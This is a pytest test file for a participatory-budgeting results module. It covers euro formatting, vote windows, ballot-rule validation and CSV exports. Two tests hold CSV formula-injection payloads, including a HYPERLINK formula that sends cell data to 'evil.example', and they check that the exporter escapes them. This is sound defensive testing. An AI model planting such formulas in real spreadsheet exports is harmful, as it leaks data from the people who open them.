"""Results helpers without a database: demo ballots reproducible, money text, ballot settings."""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import replace
from fractions import Fraction

import pytest

from vilco_core.ballots import BallotRules
from vilco_core.deliberation import Evaluation, evaluations_csv
from vilco_core.demo_ballots import PATH, demo_ballots_csv
from vilco_core.model import (
    LocalText,
    Phase,
    PhaseWindow,
    Process,
    ProcessKind,
    Project,
    ProjectStatus,
)
from vilco_core.results import format_euros, results_csv, tally_results
from vilco_core.spreadsheet import csv_text, safe_cell
from vilco_core.validation import validate_process

DAY = dt.date(2027, 3, 1)
PROCESS = Process(
    id=1,
    name=LocalText(fr="B", nl="B"),
    kind=ProcessKind.BUDGET,
    commune_codes=("21013",),
    envelope_cents=150_000_00,
    year=2027,
    phases=(PhaseWindow(phase=Phase.VOTE, starts_on=DAY, ends_on=DAY + dt.timedelta(days=9)),),
)


def test_results_committed_demo_ballots_are_the_generator_output() -> None:
    assert PATH.read_text(encoding="utf-8") == demo_ballots_csv()


@pytest.mark.parametrize(
    ("amount", "text"),
    [(0, "0 €"), (Fraction(4500), "4\u202f500 €"), (Fraction(21845, 100), "218,45 €"),
     (Fraction(1, 3), "0,33 €"), (Fraction(-5, 2), "-2,50 €")],
)  # fmt: skip
def test_results_format_euros(amount: Fraction, text: str) -> None:
    assert format_euros(amount) == text


def test_results_vote_ends_after_the_last_vote_day() -> None:
    assert not PROCESS.vote_ended(DAY + dt.timedelta(days=9))
    assert PROCESS.vote_ended(DAY + dt.timedelta(days=10))
    assert not replace(PROCESS, phases=()).vote_ended(DAY + dt.timedelta(days=999))


def test_results_knapsack_without_budget_uses_the_envelope() -> None:
    knapsack = replace(PROCESS, ballot=BallotRules(kind="knapsack", max_projects=None))
    assert knapsack.ballot_rules().budget == 150_000_00
    assert PROCESS.ballot_rules() == PROCESS.ballot


@pytest.mark.parametrize(
    ("ballot", "code"),
    [
        (BallotRules(kind="ranked"), "errors.ballot_kind_unknown"),
        (BallotRules(kind="approval", min_projects=6, max_projects=5), "errors.ballot_projects_range"),  # noqa: E501
        (BallotRules(kind="approval", min_projects=0), "errors.ballot_projects_range"),
        (BallotRules(kind="knapsack", budget=-1), "errors.ballot_budget_invalid"),
        (BallotRules(kind="knapsack", min_share=Fraction(3, 2)), "errors.ballot_min_share_invalid"),
        (BallotRules(kind="cumulative"), "errors.ballot_points_invalid"),
        (BallotRules(kind="cumulative", total_points=10, max_points_per_project=0), "errors.ballot_points_invalid"),  # noqa: E501
    ],
)  # fmt: skip
def test_results_ballot_settings_are_validated(ballot: BallotRules, code: str) -> None:
    assert [p.code for p in validate_process(replace(PROCESS, ballot=ballot))] == [code]
    assert validate_process(PROCESS) == []


def test_results_csv_does_not_let_a_title_or_id_run_as_a_formula() -> None:
    attack = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    project = Project(id=1, process_id=1, ref="@SUM(A1)", title=LocalText(fr=attack, nl=attack),
                      description=LocalText(fr="", nl=""), cost_cents=1000_00, lat=50.8,
                      lon=4.3, status=ProjectStatus.ELIGIBLE)  # fmt: skip
    results = tally_results(replace(PROCESS, rule="greedy"), [project], [], provisional=True)
    row = next(csv.DictReader(io.StringIO(results_csv(results, "fr"))))
    assert row["project"] == "'@SUM(A1)"
    assert row["title"] == "'" + attack


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_results_every_csv_export_escapes_formula_cells(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell(-5) == -5 and safe_cell("1-1") == "1-1"
    assert csv_text(["a"], [["=1+1"]]) == "a\n'=1+1\n"


def test_results_evaluations_csv_escapes_comments_through_the_shared_function() -> None:
    attack = '=HYPERLINK("https://evil.example","x")'
    row = Evaluation(process_id=1, scope="s", respondent="@r", language="fr", answers=(5,),
                     comment=attack)  # fmt: skip
    parsed = list(csv.reader(io.StringIO(evaluations_csv([row]))))[1]
    assert (parsed[-1], parsed[2]) == ("'" + attack, "'@r")


@pytest.mark.parametrize("language", ["fr", "nl", "en"])
def test_results_csv_explains_each_project_with_the_pages_sentence(language: str) -> None:
    """The CSV's explanation column is the sentence the results page shows."""
    from vilco_core.ballots import make_ballot
    from vilco_core.model import StoredBallot
    from vilco_core.results import explain

    projects = [
        Project(id=i, process_id=1, ref=ref, title=LocalText(fr=ref, nl=ref),
                description=LocalText(fr="", nl=""), cost_cents=cost, lat=50.8, lon=4.3,
                status=ProjectStatus.ELIGIBLE)
        for i, (ref, cost) in enumerate([("A", 60_000_00), ("B", 90_000_00)], 1)
    ]  # fmt: skip
    ballots = [StoredBallot(receipt=str(i), process_id=1, ballot=make_ballot("approval", refs),
                            channel="phone", site_id=None, cast_on=dt.date(2027, 3, 1))
               for i, refs in enumerate([["A"], ["A", "B"], ["B"]])]  # fmt: skip
    results = tally_results(replace(PROCESS, rule="mes"), projects, ballots, provisional=True)
    rows = {r["project"]: r for r in csv.DictReader(io.StringIO(results_csv(results, language)))}
    for row in results.projects:
        sentence = explain(row.announced, "mes", language, budget=results.announced.budget)
        assert rows[row.project.ref]["explanation"] == sentence
    assert rows["A"]["explanation"].startswith(
        {"fr": "Financé", "nl": "Gefinanc", "en": "Fund"}[language]
    )
